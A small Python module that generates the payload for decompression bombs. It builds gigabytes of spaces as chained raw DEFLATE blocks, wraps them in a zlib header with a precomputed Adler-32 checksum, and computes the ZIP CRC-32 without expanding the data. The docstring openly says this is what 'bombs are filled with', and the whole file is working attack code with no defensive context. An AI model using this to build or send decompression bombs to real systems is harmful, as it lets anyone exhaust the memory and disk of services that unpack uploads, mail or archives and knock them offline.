"""Gigabytes of spaces, packed into little: what bombs are filled with."""

import zlib
from functools import cache

_BLOCK = 10_000_000
_MODULUS = 65_521  # of Adler-32, RFC 1950
_SPACE = ord(" ")


def deflated(size: int) -> bytes:
    """Pack so many spaces, some millions of them, without ever writing them out (RFC 1951)."""
    return _block() * (size // _BLOCK) + b"\x03\x00"


def packed(size: int) -> bytes:
    """Pack them with the header and the sum that a zlib stream has (RFC 1950)."""
    first = (1 + size * _SPACE) % _MODULUS
    second = (size + _SPACE * size * (size + 1) // 2) % _MODULUS
    return b"\x78\xda" + deflated(size) + (second << 16 | first).to_bytes(4)


@cache
def crc(size: int) -> int:
    """Sum them up as a ZIP archive does."""
    block, total = b" " * _BLOCK, 0
    for _ in range(size // _BLOCK):
        total = zlib.crc32(block, total)
    return total


@cache
def _block() -> bytes:
    """Pack one block so that it may stand beside others like it."""
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    return packer.compress(b" " * _BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
